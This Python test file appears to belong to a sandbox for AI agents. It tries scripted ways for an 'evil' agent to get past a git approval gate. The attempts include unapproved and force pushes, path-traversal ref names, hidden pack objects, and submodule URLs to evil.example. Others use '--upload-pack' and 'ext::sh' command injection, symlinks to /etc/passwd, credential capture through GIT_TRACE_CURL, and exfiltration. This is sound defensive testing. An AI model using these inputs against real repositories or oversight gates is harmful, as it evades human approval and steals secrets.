"""T10: pushes and fetches that nobody approved. The upstream's own refs and objects decide."""

from __future__ import annotations

import time

from tests.bottles.evil.git_program import GIT
from tests.bottles.evil.record import Tried, attempt
from tests.bottles.evil.stage import Stage
from tests.bottles.gate.canary import evil_files, settings
from tests.bottles.gate.upstreams import WORD
from tests.waiting import until

_UPSTREAM = "the upstream's own refs and objects"
_APPROVED = "a push that a person approved arrives"


def arrives(stage: Stage, branch: str) -> bool:
    """Let the agent push a harmless commit, and approve it; return whether the upstream has exactly that commit."""
    before = stage.refs()
    pushing, _ = stage.push_and_decide(
        "print('id', commit({'ok.txt': BRANCH}, BRANCH)); git('push', 'origin', 'HEAD:' + BRANCH)",
        approve=True,
        BRANCH=branch,
    )
    after = stage.refs()
    new = after.get(f"refs/heads/{branch}", "none")
    return f"id {new}" in pushing.said() and {**before, f"refs/heads/{branch}": new} == after


def has_object(stage: Stage, id_: str) -> bool:
    """Return whether the upstream has an object."""
    return stage.world.git("cat-file", "-e", id_, cwd=stage.world.upstream, check=False).returncode == 0


@attempt(
    "T10",
    "refs that are not declared: main, tags, notes, pull requests, names like the declared one, `--mirror`",
    control=_APPROVED,
    oracle=_UPSTREAM,
)
def refs_that_are_not_declared(stage: Stage) -> Tried:
    before = stage.refs()
    said = stage.evil.run(
        """
        new = commit({'a.txt': TOKEN}, 'agent/refs')
        git('tag', '-f', 'v9')
        for ref in ('main', 'agents/x', 'agent', 'refs/tags/v9', 'refs/notes/x', 'refs/pull/1/head', 'refs/x/y',
                    'refs/heads/agent/-x', 'HEAD'):
            git('push', 'origin', 'HEAD:' + ref)
        git('push', 'origin', 'HEAD:agent/refs', 'HEAD:main')
        git('push', '--tags', 'origin', 'HEAD:agent/refs')
        git('push', '--mirror', 'origin')
        for ref in ('refs/heads/agent/../main', 'refs/heads/agent/x.lock', 'refs/heads/agent//../../main'):
            print(push_raw([('0' * 40, new, ref)], pack_of([new])))
        """,
        setup=GIT,
    )
    reached = stage.refs() != before or bool(stage.pending(stage.evil.slug))
    return Tried(arrives(stage, "agent/refs-control"), reached, said)


@attempt(
    "T10",
    "to lose commits of a branch by force or to delete it, also with a client that ignores what is offered",
    control="a push that adds to the same branch arrives after an approval",
    oracle=_UPSTREAM,
)
def force_and_delete(stage: Stage) -> Tried:
    held = arrives(stage, "agent/kept")
    before = stage.refs()
    said = stage.evil.run(
        """
        new = commit({'b.txt': TOKEN}, 'agent/other', 'origin/main')
        for words in (['--force', 'origin', 'HEAD:agent/kept'], ['origin', '+HEAD:agent/kept'],
                      ['--force-with-lease', 'origin', '+HEAD:agent/kept'], ['origin', ':agent/kept'],
                      ['--delete', 'origin', 'agent/kept', 'main']):
            git('push', *words)
        print(push_raw([(OLD, '0' * 40, 'refs/heads/agent/kept')], b''))
        print(push_raw([(OLD, new, 'refs/heads/agent/kept')], pack_of([new])))
        """,
        setup=GIT,
        OLD=before["refs/heads/agent/kept"],
    )
    reached = stage.refs() != before or bool(stage.pending(stage.evil.slug))
    pushing, _ = stage.push_and_decide(
        "git('fetch', '-q'); commit({'c.txt': 'x'}, 'agent/kept', 'origin/agent/kept')\n"
        "git('push', 'origin', 'HEAD:agent/kept')",
        approve=True,
    )
    moved = stage.refs()["refs/heads/agent/kept"] != before["refs/heads/agent/kept"]
    return Tried(held and moved, reached, said + pushing.said())


@attempt(
    "T10",
    "a commit in the pack that no pushed ref leads to",
    control="the same pack without it arrives after an approval",
    oracle=_UPSTREAM,
)
def hidden_objects(stage: Stage) -> Tried:
    before = stage.refs()
    told = stage.evil.run(
        """
        hidden = commit({'hidden.txt': TOKEN}, 'agent/hidden')
        new = commit({'open.txt': TOKEN}, 'agent/open')
        print(push_raw([('0' * 40, new, 'refs/heads/agent/open')], pack_of([new, hidden])))
        print('ids', hidden, new)
        """,
        setup=GIT,
    )
    hidden, new = told.partition("ids ")[2].split()[:2]
    reached = has_object(stage, hidden) or has_object(stage, new) or stage.refs() != before
    stage.push_and_decide(
        "print(push_raw([('0' * 40, NEW, 'refs/heads/agent/open')], pack_of([NEW])))", approve=True, NEW=new
    )
    arrived = stage.refs().get("refs/heads/agent/open") == new
    return Tried(arrived, reached or has_object(stage, hidden), told)


@attempt(
    "T10",
    "files by which git does more than store: addresses of submodules and of LFS, filter drivers, links out of the "
    "tree, a folder that is a repository; in the last commit and in one before it",
    control=_APPROVED,
    oracle=_UPSTREAM,
)
def files_by_which_git_does_more(stage: Stage) -> Tried:
    before = stage.refs()
    said = stage.evil.run(
        """
        url = 'https://evil.example/x'
        files = [{'.gitmodules': f'[submodule "a"]\\n\\tpath = a\\n\\turl = {url}\\n'},
                 {'.gitmodules': '[submodule "a"]\\n\\tpath = a\\n\\turl = --upload-pack=x\\n'},
                 {'.lfsconfig': f'[lfs]\\n\\turl = {url}\\n'}, {'.gitattributes': '*.c filter=evil\\n'},
                 {'big.bin': 'version https://git-lfs.github.com/spec/v1\\noid sha256:0\\nsize 9\\n'},
                 {'r/HEAD': 'ref: x\\n', 'r/objects/x': '', 'r/refs/x': '', 'r/config': '[core]\\n'}]
        for number, one in enumerate(files):
            commit(one, f'agent/more{number}')
            git('push', 'origin', f'HEAD:agent/more{number}')
            git('rm', '-q', '-r', *one)
            git('commit', '-q', '-m', 'clean')
            git('push', 'origin', f'HEAD:agent/more{number}')
        for number, target in enumerate(('/etc/passwd', '../../x', '.git/config')):
            commit({}, f'agent/link{number}')
            os.symlink(target, '/tmp/clone/link')
            git('add', '--all')
            git('commit', '-q', '-m', 'link')
            git('push', 'origin', f'HEAD:agent/link{number}')
        """,
        setup=GIT,
    )
    reached = stage.refs() != before or bool(stage.pending(stage.evil.slug))
    return Tried(arrives(stage, "agent/more-control"), reached, said)


@attempt(
    "T10",
    "a key in the history that the last commit has no more, a key in a message, a file over the limit",
    control=_APPROVED,
    oracle=_UPSTREAM,
)
def secrets_in_the_history(stage: Stage) -> Tried:
    before = stage.refs()
    said = stage.evil.run(
        """
        key = 'AKIA' + 'IOSFODNN7ABCDEFG'
        commit({'settings': f'key = {key}\\n'}, 'agent/key')
        git('rm', '-q', 'settings')
        git('commit', '-q', '-m', 'clean')
        git('push', 'origin', 'HEAD:agent/key')
        commit({'fine.txt': 'x'}, 'agent/message')
        git('commit', '-q', '--amend', '-m', f'use {key}')
        git('push', 'origin', 'HEAD:agent/message')
        commit({'large.bin': 'x' * (17 << 20)}, 'agent/large')
        git('push', 'origin', 'HEAD:agent/large')
        """,
        setup=GIT,
    )
    reached = stage.refs() != before or bool(stage.pending(stage.evil.slug))
    return Tried(arrives(stage, "agent/key-control"), reached, said)


@attempt(
    "T10",
    "another repository: by another name of the gate, by a path of the host, by SSH, `git:`, `ext:`, `file:`",
    control="what the declared repository has is read and carried out",
    oracle="what an allowed host received, and the refs of the other repository",
)
def other_repositories(stage: Stage) -> Tried:
    token = stage.evil.token()
    secret = stage.world.commit({"private.txt": "x"}, "of another project", cwd=stage.world.root / "seed")
    stage.world.git("init", "-q", "--bare", "other.git", cwd=stage.world.root)
    stage.world.git("push", "-q", str(stage.world.root / "other.git"), "HEAD:private", cwd=stage.world.root / "seed")
    other, before = stage.world.root / "other.git", stage.world.out("for-each-ref", cwd=stage.world.root / "other.git")
    said = stage.evil.run(
        """
        commit({'x.txt': TOKEN}, 'agent/else')
        found = ''
        for address in ('http://git.bottle.internal/other.git', 'http://git.bottle.internal' + PATH,
                        'http://git.bottle.internal/origin.git/..' + PATH, 'http://git.bottle.internal/../other.git',
                        'http://git.bottle.internal/origin.git/../other.git', PATH, 'file://' + PATH,
                        'git://git.bottle.internal/other.git', 'ssh://root@git.bottle.internal' + PATH,
                        'ext::sh -c "cat ' + PATH + '/packed-refs"'):
            found += sh(f"cd /tmp/clone && timeout 9 git -c protocol.ext.allow=always ls-remote '{address}' 2>&1")
            found += sh(f"cd /tmp/clone && timeout 9 git push '{address}' HEAD:agent/else 2>&1")
        found += sh('cd /tmp/clone && git ls-remote --upload-pack="cat ' + PATH + '/HEAD;" origin 2>&1')
        found += sh('cd /tmp/clone && git ls-remote origin 2>&1')
        carry_out(found)
        """,
        token,
        setup=GIT,
        PATH=str(other),
    )
    found = stage.carried_out(token)
    changed = stage.world.out("for-each-ref", cwd=other) != before
    return Tried(stage.world.base in found, secret in found or changed, said + found)


@attempt(
    "T10",
    "the credential of an upstream: in the clone, in what the gate sends, by a redirect to another path",
    control="the credential was needed, and what it protects is read through the gate and carried out",
    oracle="the upstream's own log, and what an allowed host received",
)
def credential_of_an_upstream(stage: Stage) -> Tried:
    token, stage.web.refused[:] = stage.evil.token(), []
    said = stage.evil.run(
        """
        os.environ['GIT_TRACE_CURL'] = '1'
        found = sh('cd /tmp && rm -rf web && git clone http://git.bottle.internal/web.git web 2>&1')
        found = found[-9000:] + sh('cd /tmp/web && git ls-remote origin; git config --list; cat .git/config')
        carry_out(found)
        """,
        token,
        setup=GIT,
    )
    found = stage.carried_out(token)
    return Tried(stage.world.base in found and bool(stage.web.refused), WORD in found, said + found)


@attempt(
    "T10",
    "other commits than the approved ones, to the same branch, while the approval is new",
    control="the approved commit arrives",
    oracle=_UPSTREAM,
)
def other_commits_than_approved(stage: Stage) -> Tried:
    made = stage.evil.run(
        """
        print('ids', commit({'good.txt': 'x'}, 'agent/good'), commit({'evil.txt': 'x'}, 'agent/bad', 'agent/good'))
        """,
        setup=GIT,
    )
    good, bad = made.partition("ids ")[2].split()[:2]
    push = "git('push', 'origin', ID + ':refs/heads/agent/swap')"
    first = stage.evil.begin(push, setup=GIT, ID=good)
    request = stage.asked(stage.evil, "push")
    second = stage.evil.begin(push, setup=GIT, ID=bad)
    until("both are held", lambda: stage.pending(stage.evil.slug), lambda found: len(found) == 2)
    stage.bottles.approve(request["reference"], who="person tester")
    said = first.said()
    arrived = stage.refs().get("refs/heads/agent/swap") == good
    stage.deny_all()
    said += second.said()
    said += stage.evil.run(f"{push}", setup=GIT, ID=good)
    return Tried(arrived, stage.refs().get("refs/heads/agent/swap") != good or has_object(stage, bad), said)


@attempt(
    "T10",
    "an approval a second time, after the person has removed the branch again",
    control="the first push arrives",
    oracle=_UPSTREAM,
)
def approval_a_second_time(stage: Stage) -> Tried:
    arrived = arrives(stage, "agent/once")
    id_ = stage.refs()["refs/heads/agent/once"]
    stage.world.git("update-ref", "-d", "refs/heads/agent/once", cwd=stage.world.upstream)
    pushing = stage.evil.begin(
        """
        while 'agent/once' in git('ls-remote', 'origin'):  # the gate lists what it fetched less than a second ago
            time.sleep(0.2)
        git('push', 'origin', ID + ':refs/heads/agent/once')
        """,
        setup=GIT,
        ID=id_,
    )
    request = stage.asked(stage.evil, "push")
    reached = "refs/heads/agent/once" in stage.refs()
    stage.bottles.deny(request["reference"], who="person tester")
    said = pushing.said()
    return Tried(arrived, reached or "refs/heads/agent/once" in stage.refs(), said)


@attempt(
    "T10",
    "hooks, settings, attributes and drivers in the pushed content, as programs of the host",
    control="the same settings start the program when they are git's own",
    oracle="the program itself, on this host",
)
def programs_in_the_content(stage: Stage) -> Tried:
    canary, arrived = stage.canary, False
    pushing, _ = stage.push_and_decide(
        """
        commit(FILES, 'agent/programs')
        git('push', 'origin', 'HEAD:agent/programs')
        git('fetch', '-q')
        """,
        approve=True,
        FILES=evil_files(canary),
    )
    arrived = "refs/heads/agent/programs" in stage.refs()
    reached = canary.sang()
    copy = stage.world.root / f"copy-{time.monotonic_ns()}"
    stage.world.git("clone", "-q", "-b", "agent/programs", str(stage.world.upstream), str(copy), cwd=stage.world.root)
    with open(copy / ".git/config", "a") as config:
        config.write(settings(canary.path))
    stage.world.git("show", "--ext-diff", "--textconv", "HEAD", "--", "a.c", cwd=copy)
    return Tried(arrived and canary.sang(), reached, pushing.said())
